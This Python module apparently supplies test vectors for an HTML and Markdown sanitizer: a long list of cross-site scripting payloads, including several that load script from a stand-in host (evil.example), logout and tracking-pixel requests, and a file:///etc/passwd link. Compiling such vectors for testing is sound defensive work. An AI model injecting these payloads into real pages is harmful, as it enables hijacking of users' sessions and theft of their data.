"""Ways in which people have tried to smuggle script into pages, in HTML and in Markdown.

After the lists of OWASP (XSS Filter Evasion), PortSwigger, html5sec.org and the Markdown parsers' own advisories.
"""

HTML = r'''
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<script/src=data:,alert(1)>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script>alert(1)//
<<script>alert(1);//<</script>
<script\x20type="text/javascript">alert(1);</script>
<script	>alert(1)</script	>
"><script>alert(1)</script>
'><script>alert(1)</script>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
--><script>alert(1)</script>
]]><script>alert(1)</script>
<img src=x onerror=alert(1)>
<img src=x onerror="alert(1)"
<IMG SRC=x OnErRoR=alert(1)>
<img/src/onerror=alert(1)>
<img src=`x`onerror=alert(1)>
<img src="x"onerror="alert(1)">
<img src='x'onerror='alert(1)'>
<img src=x:alert(alt) onerror=eval(src) alt=0>
<img """><script>alert(1)</script>">
<img src="javascript:alert(1)">
<img src=JaVaScRiPt:alert(1)>
<img src=javascript:alert(&quot;1&quot;)>
<img src="jav	ascript:alert(1);">
<img src="jav&#x09;ascript:alert(1);">
<img src="jav&#x0A;ascript:alert(1);">
<img src="jav&#x0D;ascript:alert(1);">
<img src=" &#14; javascript:alert(1);">
<img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>
<img src=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)>
<img src=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74(1)>
<img dynsrc="javascript:alert(1)">
<img lowsrc="javascript:alert(1)">
<img srcset="x 1x, javascript:alert(1) 2x">
<img src=# onmouseover="alert(1)">
<img src onmouseover="alert(1)">
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><script href="data:,alert(1)"/></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>click</text></a>
<svg><set attributeName=onmouseover to=alert(1)>
<svg><use href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4="/></svg>
<svg><foreignObject><body onload=alert(1)></foreignObject></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math href="javascript:alert(1)">click</math>
<math><maction actiontype="statusline#http://x" xlink:href="javascript:alert(1)">click</maction></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<body onload=alert(1)>
<body background="javascript:alert(1)">
<body onscroll=alert(1)><br><br><input autofocus>
<html onmousemove=alert(1)>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe src=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==></iframe>
<iframe/onload=alert(1)>
<frameset><frame src="javascript:alert(1)"></frameset>
<object data="javascript:alert(1)">
<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">
<object type="text/x-scriptlet" data="//evil.example/x.html"></object>
<embed src="javascript:alert(1)">
<embed src="data:image/svg+xml;base64,PHN2Zz4=" type="image/svg+xml">
<applet code="javascript:alert(1)">
<link rel=stylesheet href="javascript:alert(1)">
<link rel=import href="data:text/html,<script>alert(1)</script>">
<style>@import'javascript:alert(1)';</style>
<style>li {list-style-image: url("javascript:alert(1)");}</style><ul><li>x
<style>body{background:url(javascript:alert(1))}</style>
<style><img src="</style><img src=x onerror=alert(1)//">
<div style="background-image: url(javascript:alert(1))">
<div style="width: expression(alert(1));">
<div style="-moz-binding:url(//evil.example/x.xml#x)">
<xss style="behavior: url(x.htc);">
<meta http-equiv="refresh" content="0;url=javascript:alert(1);">
<meta http-equiv="refresh" content="0;url=data:text/html,<script>alert(1)</script>">
<base href="javascript:alert(1);//">
<a href="javascript:alert(1)">x</a>
<a href="JAVASCRIPT&colon;alert(1)">x</a>
<a href="java&NewLine;script&colon;alert(1)">x</a>
<a href="&#1;javascript:alert(1)">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="feed:javascript:alert(1)">x</a>
<a href="view-source:javascript:alert(1)">x</a>
<a href=x onclick=alert(1)>x</a>
<a onmouseover="alert(1)">x</a>
<a onmouseover=alert(1)>x</a>
<a href="x" ping="javascript:alert(1)">x</a>
<a href="x" style="position:fixed;inset:0">x</a>
<a id=x tabindex=1 onfocus=alert(1)></a>
<form action="javascript:alert(1)"><input type=submit></form>
<form><button formaction="javascript:alert(1)">x</button></form>
<isindex type=image src=1 onerror=alert(1)>
<input onfocus=alert(1) autofocus>
<input type="image" src="javascript:alert(1);">
<select onfocus=alert(1) autofocus>
<textarea onfocus=alert(1) autofocus>
<keygen onfocus=alert(1) autofocus>
<button popovertarget=x onclick=alert(1)>x</button><div popover id=x onbeforetoggle=alert(1)>x</div>
<video src=x onerror=alert(1)>
<video><source onerror="alert(1)">
<video poster=javascript:alert(1)//></video>
<audio src=x onerror=alert(1)>
<audio autoplay onloadstart=alert(1) src=x>
<details open ontoggle=alert(1)>
<marquee onstart=alert(1)>
<table background="javascript:alert(1)"><td background="javascript:alert(1)">
<td onclick=alert(1)>x
<bgsound src="javascript:alert(1);">
<layer src="//evil.example/x.html"></layer>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<template><script>alert(1)</script></template>
<xml id=i><x><c><![CDATA[<img src="javas]]><![CDATA[cript:alert(1);">]]></c></x></xml>
<?xml version="1.0"?><html:html xmlns:html="http://www.w3.org/1999/xhtml"><html:script>alert(1);</html:script>
<!--[if gte IE 4]><script>alert(1);</script><![endif]-->
<!--<img src="--><img src=x onerror=alert(1)//">
<comment><img src="</comment><img src=x onerror=alert(1)//">
<![<img src="]><img src=x onerror=alert(1)//">
<custom-element onpointerover=alert(1) tabindex=1>x</custom-element>
<p hx-on:click="alert(1)" hx-get="/logout" hx-trigger="load">x</p>
<div data-live-url="/logout" data-live="x">x</div>
<dialog open onclose=alert(1)>
<p id="comments" name="csrf_token">clobber</p>
%3Cscript%3Ealert(1)%3C/script%3E<img src=%78 onerror=alert(1)>
+ADw-script+AD4-alert(1)+ADw-/script+AD4-<b onclick=alert(1)>
'''

MARKDOWN = r"""
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](javascript&colon;alert(1))
[x](&#106;avascript:alert(1))
[x](java%0ascript:alert(1))
[x](<javascript:alert(1)>)
[x](<java	script:alert(1)>)
[x](  javascript:alert(1))
[x](vbscript:alert(1))
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[x](file:///etc/passwd)
[x](x "onmouseover=alert(1)")
[x](x" onmouseover="alert(1))
[x](<x" onmouseover="alert(1)>)
[x](x '"><img src=x onerror=alert(1)>')
[x]: javascript:alert(1)
[x][y] [y]: javascript:alert(1)
![x](javascript:alert(1))
![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)
![x](data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=)
![x" onerror="alert(1)](/files/1/x.webp)
![x](/files/1/x.webp" onerror="alert(1))
![x](//evil.example/pixel.gif)
![x](https://evil.example/pixel.gif)
![x](/logout)
![x](/files/1/../../logout)
![x](/files/1/%2e%2e/%2e%2e/logout)
![x](/files/1/..)
<javascript:alert(1)>
<JAVASCRIPT:alert(1)>
<data:text/html,alert(1)>
<http://a"onmouseover="alert(1)>
<http://a/%22onmouseover=%22alert(1)>
`<script>alert(1)</script>`
```html<script>alert(1)</script>```
    <script>alert(1)</script>
~~~"><script>alert(1)</script>
# <img src=x onerror=alert(1)>
> <svg onload=alert(1)>
- <iframe src=javascript:alert(1)>
|<script>alert(1)</script>|x| |-|-| |<img src=x onerror=alert(1)>|y|
**<b onclick=alert(1)>x</b>**
\<script>alert(1)\</script>
&lt;script&gt;alert(1)&lt;/script&gt;
&amp;lt;script&amp;gt;alert(1)
@ann"><script>alert(1)</script>
@<img src=x onerror=alert(1)>
#tag"onmouseover=alert(1)
#<script>alert(1)</script>
[@ann](javascript:alert(1))
[#tag](javascript:alert(1))
[a](x)<!--[b](--><img src=x onerror=alert(1)>)
[![x](x)](javascript:alert(1))
[`</a><script>alert(1)</script>`](x)
"""


def lines(block: str) -> list[str]:
    return [line for line in block.strip("\n").split("\n") if line]


VECTORS = lines(HTML) + lines(MARKDOWN)
